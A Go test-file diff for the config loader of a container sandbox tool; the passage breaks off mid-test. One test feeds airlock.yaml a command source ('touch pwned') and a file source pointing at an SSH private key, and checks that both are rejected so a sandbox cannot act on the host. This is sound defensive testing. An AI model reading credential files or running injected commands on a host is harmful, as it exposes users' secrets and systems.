@@ -1,9 +1,13 @@
 package config
 
 import (
+	"context"
 	"os"
+	"os/user"
 	"path/filepath"
+	"strings"
 	"testing"
+	"time"
 )
 
 func TestLoadWithLocal(t *testing.T) {
@@ -63,6 +67,250 @@ env:
 	}
 }
 
+func TestLoadEnvSources(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	if err := os.MkdirAll(filepath.Join(tmpDir, ".airlock"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(tmpDir, "token.txt"), []byte("s3cret\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	mainYAML := `name: test
+image: alpine
+env:
+  PLAIN: value
+  LOCAL_SECRET: placeholder
+  SHADOWED: plain
+`
+	localYAML := `env:
+  TOKEN: {fromFile: token.txt}
+  LOCAL_SECRET: {fromCommand: "printf local"}
+  SHADOWED: plain-wins
+`
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte(mainYAML), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(tmpDir, ".airlock", "airlock.local.yaml"), []byte(localYAML), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Env["PLAIN"] != "value" || cfg.Env["SHADOWED"] != "plain-wins" {
+		t.Errorf("unexpected plain env: %v", cfg.Env)
+	}
+	if _, ok := cfg.Env["LOCAL_SECRET"]; ok {
+		t.Errorf("expected LOCAL_SECRET to be replaced by its source, got env %v", cfg.Env)
+	}
+	if len(cfg.EnvSources) != 2 {
+		t.Fatalf("expected 2 env sources, got %v", cfg.EnvSources)
+	}
+
+	ctx := context.Background()
+	if v, err := cfg.EnvSources["TOKEN"].Resolve(ctx, tmpDir); err != nil || v != "s3cret" {
+		t.Errorf("expected TOKEN=s3cret, got %q (%v)", v, err)
+	}
+	if v, err := cfg.EnvSources["LOCAL_SECRET"].Resolve(ctx, tmpDir); err != nil || v != "local" {
+		t.Errorf("expected LOCAL_SECRET=local, got %q (%v)", v, err)
+	}
+	if _, err := (EnvSource{FromCommand: "exit 3"}).Resolve(ctx, tmpDir); err == nil {
+		t.Errorf("expected a failing command to be an error")
+	}
+
+	if err := os.WriteFile(filepath.Join(tmpDir, ".airlock", "airlock.local.yaml"), []byte("env:\n  BAD: {fromFile: a, fromCommand: b}\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(cfgPath); err == nil {
+		t.Errorf("expected error for a source with both fromFile and fromCommand")
+	}
+
+	// The sandbox can edit airlock.yaml, so sources there would run its commands on the host.
+	if err := os.Remove(filepath.Join(tmpDir, ".airlock", "airlock.local.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	for _, src := range []string{"{fromCommand: \"touch pwned\"}", "{fromFile: ~/.ssh/id_ed25519}"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nenv:\n  X: "+src+"\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected %s in airlock.yaml to be rejected", src)
+		}
+	}
+}
+
+func TestLoadInterpolation(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	t.Setenv("AIRLOCK_TEST_REGISTRY", "ghcr.io/acme")
+	t.Setenv("AIRLOCK_TEST_EMPTY", "")
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := `name: test
+image: ${AIRLOCK_TEST_REGISTRY}/dev:${AIRLOCK_TEST_TAG:-latest}
+mounts:
+  - source: ${AIRLOCK_TEST_UNSET:-./data}
+    target: /data
+env:
+  EMPTY: "${AIRLOCK_TEST_EMPTY:-fallback}"
+  LITERAL: "$HOME and $${NOT_EXPANDED}"
+`
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Image != "ghcr.io/acme/dev:latest" {
+		t.Errorf("unexpected image %q", cfg.Image)
+	}
+	if len(cfg.Mounts) != 1 || cfg.Mounts[0].Source != "./data" {
+		t.Errorf("unexpected mounts %+v", cfg.Mounts)
+	}
+	if cfg.Env["EMPTY"] != "fallback" {
+		t.Errorf("expected EMPTY=fallback, got %q", cfg.Env["EMPTY"])
+	}
+	if cfg.Env["LITERAL"] != "$HOME and ${NOT_EXPANDED}" {
+		t.Errorf("unexpected LITERAL %q", cfg.Env["LITERAL"])
+	}
+
+	for _, bad := range []string{"image: ${UNTERMINATED\n", "image: ${NOT VALID}\n"} {
+		if err := os.WriteFile(cfgPath, []byte("name: test\n"+bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestReadEnvFile(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	path := filepath.Join(tmpDir, ".env")
+	content := `# comment
+PLAIN=value
+export EXPORTED=yes
+SPACED = padded  # trailing comment
+DOUBLE="line1\nline2 # kept"
+SINGLE='$literal\n'
+EMPTY=
+`
+	if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+	env, err := ReadEnvFile(path)
+	if err != nil {
+		t.Fatalf("ReadEnvFile failed: %v", err)
+	}
+	want := []string{"PLAIN=value", "EXPORTED=yes", "SPACED=padded", "DOUBLE=line1\nline2 # kept", `SINGLE=$literal\n`, "EMPTY="}
+	if len(env) != len(want) {
+		t.Fatalf("expected %q, got %q", want, env)
+	}
+	for i := range want {
+		if env[i] != want[i] {
+			t.Errorf("entry %d: expected %q, got %q", i, want[i], env[i])
+		}
+	}
+
+	for _, bad := range []string{"NOEQUALS\n", "1BAD=x\n", "Q=\"open\n"} {
+		if err := os.WriteFile(path, []byte(bad), 0600); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := ReadEnvFile(path); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nenvFile: .env\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.EnvFile) != 1 || cfg.EnvFile[0] != ".env" {
+		t.Errorf("expected envFile [.env], got %v", cfg.EnvFile)
+	}
+}
+
+func TestApplyProfile(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := `name: test
+image: alpine
+mounts:
+  - {source: ./data, target: /data, mode: ro}
+env:
+  MODE: slim
+  KEEP: yes
+resources: {cpus: 2, memory: 4g}
+profiles:
+  gpu:
+    image: ${AIRLOCK_TEST_GPU_IMAGE:-nvidia/cuda}
+    mounts:
+      - {source: ./data, target: /data, mode: rw}
+      - {source: ./models, target: /models}
+    env:
+      MODE: full
+    resources: {memory: 16g}
+`
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if err := cfg.ApplyProfile(""); err != nil || cfg.Image != "alpine" {
+		t.Fatalf("expected an empty profile to be a no-op: %v", err)
+	}
+	if err := cfg.ApplyProfile("gpu"); err != nil {
+		t.Fatalf("ApplyProfile failed: %v", err)
+	}
+	if cfg.Image != "nvidia/cuda" || cfg.Name != "test-gpu" || cfg.Profile != "gpu" {
+		t.Errorf("unexpected image/name/profile: %q %q %q", cfg.Image, cfg.Name, cfg.Profile)
+	}
+	if len(cfg.Mounts) != 2 || cfg.Mounts[0].Mode != "rw" || cfg.Mounts[1].Target != "/models" {
+		t.Errorf("unexpected mounts: %+v", cfg.Mounts)
+	}
+	if cfg.Env["MODE"] != "full" || cfg.Env["KEEP"] != "yes" {
+		t.Errorf("unexpected env: %v", cfg.Env)
+	}
+	if cfg.Resources.CPUs != 2 || cfg.Resources.Memory != 16<<30 {
+		t.Errorf("unexpected resources: %+v", cfg.Resources)
+	}
+
+	cfg, err = Load(cfgPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.ApplyProfile("missing"); err == nil || !strings.Contains(err.Error(), "gpu") {
+		t.Errorf("expected an error listing available profiles, got %v", err)
+	}
+}
+
 func TestLoadWithEnvList(t *testing.T) {
 	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
 	if err != nil {
@@ -134,6 +382,54 @@ build:
 	if cfg.Build.Tag != "my-tag:latest" {
 		t.Errorf("expected tag my-tag:latest, got %s", cfg.Build.Tag)
 	}
+
+	if err := os.WriteFile(cfgPath, []byte(yaml+"  inputs: [package-lock.json, \"requirements*.txt\"]\n  autoRecreate: true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.Build.Inputs) != 2 || cfg.Build.Inputs[1] != "requirements*.txt" || !cfg.Build.AutoRecreate {
+		t.Errorf("unexpected build: %+v", cfg.Build)
+	}
+	if err := os.WriteFile(cfgPath, []byte(yaml+"  inputs: [\"[\"]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(cfgPath); err == nil {
+		t.Error("expected error for an invalid build.inputs pattern")
+	}
+
+	t.Setenv("AIRLOCK_TEST_CACHE", "")
+	if err := os.WriteFile(cfgPath, []byte(yaml+"  cacheFrom: [ghcr.io/acme/cache, \"${AIRLOCK_TEST_CACHE:-}\", ./.buildcache]\n  cacheTo: ${AIRLOCK_TEST_CACHE:-}\n  publish: ${AIRLOCK_TEST_REGISTRY:-ghcr.io/acme}/dev:latest\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.Build.CacheFrom) != 2 || cfg.Build.CacheFrom[1] != "./.buildcache" || cfg.Build.CacheTo != "" {
+		t.Errorf("unexpected build cache: from %q, to %q", cfg.Build.CacheFrom, cfg.Build.CacheTo)
+	}
+	if cfg.Build.Publish != "ghcr.io/acme/dev:latest" {
+		t.Errorf("expected publish ghcr.io/acme/dev:latest, got %q", cfg.Build.Publish)
+	}
+}
+
+func TestLoadImageWithBuildFallback(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := "name: test\nimage: ghcr.io/acme/dev:latest\nbuild:\n  context: .\n"
+	if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Image != "ghcr.io/acme/dev:latest" || cfg.Build == nil || cfg.Build.Tag != "airlock:test" {
+		t.Errorf("expected both image and build, got image %q, build %+v", cfg.Image, cfg.Build)
+	}
 }
 
 func TestLoadWithImage(t *testing.T) {
@@ -254,3 +550,1473 @@ mounts:
 		t.Errorf("expected mount mode ro, got %s", cfg.Mounts[0].Mode)
 	}
 }
+
+func TestFindWalksUp(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-find-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: find-project\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	nested := filepath.Join(tmpDir, "a", "b", "c")
+	if err := os.MkdirAll(nested, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	found, err := Find(nested)
+	if err != nil {
+		t.Fatalf("Find failed: %v", err)
+	}
+	want, _ := filepath.EvalSymlinks(cfgPath)
+	got, _ := filepath.EvalSymlinks(found)
+	if got != want {
+		t.Errorf("expected %s, got %s", want, got)
+	}
+}
+
+func TestFindNotFound(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-find-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	if _, err := Find(tmpDir); err == nil {
+		t.Error("expected an error when no config exists")
+	}
+}
+
+func TestApplyOverlays(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-overlay-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	mainYAML := `name: mono
+env:
+  VAR1: "root"
+  VAR2: "root"
+`
+	if err := os.WriteFile(cfgPath, []byte(mainYAML), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	svcDir := filepath.Join(tmpDir, "services", "api")
+	if err := os.MkdirAll(filepath.Join(svcDir, "cmd"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	overlayYAML := `overlay: true
+workdir: ./cmd
+env:
+  VAR2: "api"
+`
+	if err := os.WriteFile(filepath.Join(svcDir, "airlock.yaml"), []byte(overlayYAML), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	found, err := Find(filepath.Join(svcDir, "cmd"))
+	if err != nil {
+		t.Fatalf("Find failed: %v", err)
+	}
+	if filepath.Base(filepath.Dir(found)) != filepath.Base(tmpDir) {
+		t.Fatalf("expected Find to skip the overlay and return the root config, got %s", found)
+	}
+
+	cfg, err := Load(found)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if err := cfg.ApplyOverlays(filepath.Join(svcDir, "cmd")); err != nil {
+		t.Fatalf("ApplyOverlays failed: %v", err)
+	}
+
+	if cfg.Name != "mono" {
+		t.Errorf("expected name mono, got %s", cfg.Name)
+	}
+	if cfg.Env["VAR1"] != "root" {
+		t.Errorf("expected VAR1=root, got %s", cfg.Env["VAR1"])
+	}
+	if cfg.Env["VAR2"] != "root" {
+		t.Errorf("expected the container's VAR2 to stay root, got %s", cfg.Env["VAR2"])
+	}
+	if cfg.ExecEnv["VAR2"] != "api" {
+		t.Errorf("expected sessions to get VAR2=api, got %s", cfg.ExecEnv["VAR2"])
+	}
+	if cfg.ExecDir != "services/api/cmd" {
+		t.Errorf("expected execDir services/api/cmd, got %s", cfg.ExecDir)
+	}
+	if len(cfg.Overlays) != 1 {
+		t.Errorf("expected 1 overlay, got %d", len(cfg.Overlays))
+	}
+
+	if _, err := Load(filepath.Join(svcDir, "airlock.yaml")); err == nil {
+		t.Error("expected loading an overlay as a project config to fail")
+	}
+}
+
+func TestApplyOverlaysDotDotName(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "airlock.yaml"), []byte("name: mono\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(tmpDir, "..tools")
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "airlock.yaml"), []byte("overlay: true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(filepath.Join(tmpDir, "airlock.yaml"))
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if err := cfg.ApplyOverlays(dir); err != nil {
+		t.Fatalf("ApplyOverlays failed: %v", err)
+	}
+	if cfg.ExecDir != "..tools" || len(cfg.Overlays) != 1 {
+		t.Errorf("expected the ..tools overlay to apply, got execDir %q and %d overlays", cfg.ExecDir, len(cfg.Overlays))
+	}
+}
+
+func TestLockRoundTrip(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-lock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	l, err := ReadLock(tmpDir)
+	if err != nil {
+		t.Fatalf("ReadLock failed: %v", err)
+	}
+	if l != nil {
+		t.Fatalf("expected no lock, got %+v", l)
+	}
+
+	want := &Lock{Image: "airlock:proj", ImageID: "sha256:abc", RepoDigest: "ghcr.io/acme/proj@sha256:def"}
+	if err := WriteLock(tmpDir, want); err != nil {
+		t.Fatalf("WriteLock failed: %v", err)
+	}
+	got, err := ReadLock(tmpDir)
+	if err != nil {
+		t.Fatalf("ReadLock failed: %v", err)
+	}
+	if got == nil || *got != *want {
+		t.Errorf("expected %+v, got %+v", want, got)
+	}
+
+	// Lockfiles written before imageId kept the image ID under digest.
+	if err := os.WriteFile(filepath.Join(tmpDir, LockFileName), []byte("image: airlock:proj\ndigest: sha256:abc\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	got, err = ReadLock(tmpDir)
+	if err != nil {
+		t.Fatalf("ReadLock failed: %v", err)
+	}
+	if got == nil || got.ImageID != "sha256:abc" {
+		t.Errorf("expected the legacy digest as the image ID, got %+v", got)
+	}
+}
+
+func TestLoadAppliesGrants(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-grants-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: grants-project\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := AddGrant(tmpDir, Grant{Kind: "mount", Value: "/data", Target: "/mnt/airlock/data", Mode: "ro"}); err != nil {
+		t.Fatalf("AddGrant failed: %v", err)
+	}
+
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.Mounts) != 1 {
+		t.Fatalf("expected 1 mount from grants, got %d", len(cfg.Mounts))
+	}
+	if cfg.Mounts[0].Source != "/data" || cfg.Mounts[0].Target != "/mnt/airlock/data" || cfg.Mounts[0].Mode != "ro" {
+		t.Errorf("unexpected granted mount: %+v", cfg.Mounts[0])
+	}
+}
+
+func TestExpiredGrants(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-grants-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: grants-project\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	past := time.Now().Add(-time.Minute)
+	future := time.Now().Add(time.Hour)
+	if err := AddGrant(tmpDir, Grant{Kind: "mount", Value: "/old", Target: "/old", Mode: "ro", Expires: &past}); err != nil {
+		t.Fatal(err)
+	}
+	if err := AddGrant(tmpDir, Grant{Kind: "mount", Value: "/new", Target: "/new", Mode: "ro", Expires: &future}); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.Mounts) != 1 || cfg.Mounts[0].Source != "/new" {
+		t.Errorf("expected only the unexpired grant to apply, got %+v", cfg.Mounts)
+	}
+
+	expired, err := PruneExpiredGrants(tmpDir, time.Now())
+	if err != nil {
+		t.Fatalf("PruneExpiredGrants failed: %v", err)
+	}
+	if len(expired) != 1 || expired[0].Value != "/old" {
+		t.Errorf("expected /old to be pruned, got %+v", expired)
+	}
+	grants, _ := ReadGrants(tmpDir)
+	if len(grants) != 1 || grants[0].Value != "/new" {
+		t.Errorf("expected /new to remain, got %+v", grants)
+	}
+}
+
+func TestLoadWithGC(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-gc-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	yaml := `name: gc-project
+gc:
+  removeStoppedAfter: 14d
+  keepImages: 3
+  maxCacheSize: 10g
+`
+	if err := os.WriteFile(cfgPath, []byte(yaml), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if time.Duration(cfg.GC.RemoveStoppedAfter) != 14*24*time.Hour {
+		t.Errorf("expected 14 days, got %v", time.Duration(cfg.GC.RemoveStoppedAfter))
+	}
+	if cfg.GC.KeepImages != 3 {
+		t.Errorf("expected keepImages 3, got %d", cfg.GC.KeepImages)
+	}
+	if cfg.GC.MaxCacheSize != 10<<30 {
+		t.Errorf("expected 10g, got %d", cfg.GC.MaxCacheSize)
+	}
+}
+
+func TestParseByteSize(t *testing.T) {
+	tests := map[string]int64{"512": 512, "4k": 4096, "500m": 500 << 20, "1.5GB": 3 << 29, "2GiB": 2 << 30}
+	for in, want := range tests {
+		got, err := ParseByteSize(in)
+		if err != nil {
+			t.Errorf("ParseByteSize(%q) failed: %v", in, err)
+			continue
+		}
+		if got != want {
+			t.Errorf("ParseByteSize(%q) = %d, want %d", in, got, want)
+		}
+	}
+	if _, err := ParseByteSize("lots"); err == nil {
+		t.Error("expected an error for an invalid size")
+	}
+}
+
+func TestLoadPorts(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	configPath := filepath.Join(tmpDir, "airlock.yaml")
+	content := `
+name: test
+image: alpine
+ports:
+  - "8080:80"
+  - "127.0.0.1:5432:5432"
+  - 9229
+  - "[::1]:6006:6006/udp"
+  - host: 3000
+    container: 3001
+  - container: 4000
+`
+	if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(configPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	want := []string{"8080:80", "127.0.0.1:5432:5432", "9229:9229", "[::1]:6006:6006/udp", "3000:3001", "4000:4000"}
+	if len(cfg.Ports) != len(want) {
+		t.Fatalf("expected %d ports, got %d", len(want), len(cfg.Ports))
+	}
+	for i, w := range want {
+		if got := cfg.Ports[i].String(); got != w {
+			t.Errorf("ports[%d]: expected %q, got %q", i, w, got)
+		}
+	}
+
+	for _, bad := range []string{"abc", "1:2:3:4", "70000", "8080/sctp", "0:80"} {
+		if _, err := ParsePort(bad); err == nil {
+			t.Errorf("expected ParsePort(%q) to fail", bad)
+		}
+	}
+}
+
+func TestLoadShell(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	configPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(configPath, []byte("name: test\nimage: alpine\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(configPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Shell.Program != "bash" || cfg.Shell.Enter != ShellPlain || cfg.Shell.Exec != ShellNone {
+		t.Errorf("unexpected shell defaults: %+v", cfg.Shell)
+	}
+
+	if err := os.WriteFile(configPath, []byte("name: test\nimage: alpine\nshell:\n  program: zsh\n  enter: login\n  exec: plain\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = Load(configPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Shell.Program != "zsh" || cfg.Shell.Enter != ShellLogin || cfg.Shell.Exec != ShellPlain {
+		t.Errorf("unexpected shell config: %+v", cfg.Shell)
+	}
+
+	if err := os.WriteFile(configPath, []byte("name: test\nimage: alpine\nshell:\n  enter: none\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(configPath); err == nil {
+		t.Errorf("expected error for shell.enter: none")
+	}
+}
+
+func TestLoadNetwork(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	write := func(content string) {
+		if err := os.WriteFile(cfgPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	write("name: test\nimage: alpine\n")
+	if err := AddGrant(tmpDir, Grant{Kind: "domain", Value: "example.com"}); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Network.Mode != NetworkBridge || len(cfg.Network.Allow) != 0 {
+		t.Errorf("a domain grant must not restrict an unrestricted network: %+v", cfg.Network)
+	}
+
+	write("name: test\nimage: alpine\nnetwork:\n  allow:\n    - pypi.org\n    - 10.0.0.0/8\n")
+	cfg, err = Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	want := []string{"pypi.org", "10.0.0.0/8", "example.com"}
+	if len(cfg.Network.Allow) != len(want) {
+		t.Fatalf("expected allow %v, got %v", want, cfg.Network.Allow)
+	}
+	for i, w := range want {
+		if cfg.Network.Allow[i] != w {
+			t.Errorf("allow[%d]: expected %q, got %q", i, w, cfg.Network.Allow[i])
+		}
+	}
+
+	write("name: test\nimage: alpine\nnetwork:\n  extraHosts:\n    git.corp: 10.1.2.3\n    host.docker.internal: host-gateway\n  dns: [10.0.0.53, \"fd00::53\"]\n  dnsSearch: [corp.example.com]\n")
+	cfg, err = Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Network.ExtraHosts["git.corp"] != "10.1.2.3" || cfg.Network.ExtraHosts["host.docker.internal"] != HostGateway {
+		t.Errorf("unexpected extraHosts: %v", cfg.Network.ExtraHosts)
+	}
+	if len(cfg.Network.DNS) != 2 || len(cfg.Network.DNSSearch) != 1 {
+		t.Errorf("unexpected dns %v, dnsSearch %v", cfg.Network.DNS, cfg.Network.DNSSearch)
+	}
+
+	for _, bad := range []string{
+		"name: test\nimage: alpine\nnetwork:\n  mode: none\n  allow: [pypi.org]\n",
+		"name: test\nimage: alpine\nnetwork:\n  mode: slirp\n",
+		"name: test\nimage: alpine\nnetwork:\n  profiles:\n    offline: []\n",
+		"name: test\nimage: alpine\nnetwork:\n  extraHosts:\n    git.corp: git.example.com\n",
+		"name: test\nimage: alpine\nnetwork:\n  extraHosts:\n    \"bad host\": 10.1.2.3\n",
+		"name: test\nimage: alpine\nnetwork:\n  dns: [dns.example.com]\n",
+		"name: test\nimage: alpine\nnetwork:\n  dnsSearch: [\"-corp\"]\n",
+		"name: test\nimage: alpine\nnetwork:\n  mode: host\n  dns: [10.0.0.53]\n",
+	} {
+		write(bad)
+		if _, err := Load(cfgPath); err == nil {
+			t.Errorf("expected error for config:\n%s", bad)
+		}
+	}
+}
+
+func TestNetworkRestrict(t *testing.T) {
+	profiles := map[string][]string{"registry": {"pypi.org"}, "wide": {"pypi.org", "example.com"}}
+
+	open := Network{Mode: NetworkBridge, Profiles: profiles}
+	n, err := open.Restrict("none")
+	if err != nil || n.Mode != NetworkNone {
+		t.Errorf("expected none, got %+v (%v)", n, err)
+	}
+	n, err = open.Restrict("allowlist:wide")
+	if err != nil || n.Mode != NetworkBridge || len(n.Allow) != 2 {
+		t.Errorf("expected the wide allowlist, got %+v (%v)", n, err)
+	}
+
+	resolved := Network{Mode: NetworkBridge, Profiles: profiles, ExtraHosts: map[string]string{"git.corp": "10.1.2.3"}, DNS: []string{"10.0.0.53"}}
+	if n, err := resolved.Restrict("allowlist:registry"); err != nil || n.ExtraHosts["git.corp"] != "10.1.2.3" || len(n.DNS) != 1 {
+		t.Errorf("expected an allowlist to keep extraHosts and dns, got %+v (%v)", n, err)
+	}
+	if n, err := resolved.Restrict("none"); err != nil || n.ExtraHosts["git.corp"] != "10.1.2.3" || len(n.DNS) != 0 {
+		t.Errorf("expected none to keep extraHosts but drop dns, got %+v (%v)", n, err)
+	}
+
+	limited := Network{Mode: NetworkBridge, Allow: []string{"pypi.org"}, Profiles: profiles}
+	if _, err := limited.Restrict("allowlist:registry"); err != nil {
+		t.Errorf("expected a narrower profile to be accepted: %v", err)
+	}
+	if _, err := limited.Restrict("allowlist:wide"); err == nil {
+		t.Errorf("expected a profile wider than network.allow to be rejected")
+	}
+
+	offline := Network{Mode: NetworkNone, Profiles: profiles}
+	if _, err := offline.Restrict("allowlist:registry"); err == nil {
+		t.Errorf("expected an allowlist to be rejected for a sandbox without network")
+	}
+	for _, bad := range []string{"allowlist:missing", "bridge", "host"} {
+		if _, err := open.Restrict(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadNestedContainers(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "airlock-test-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nnestedContainers: true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if !cfg.NestedContainers {
+		t.Errorf("expected nestedContainers to be set")
+	}
+
+	if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\nnestedContainers: true\nsecurity:\n  auditSyscalls: true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
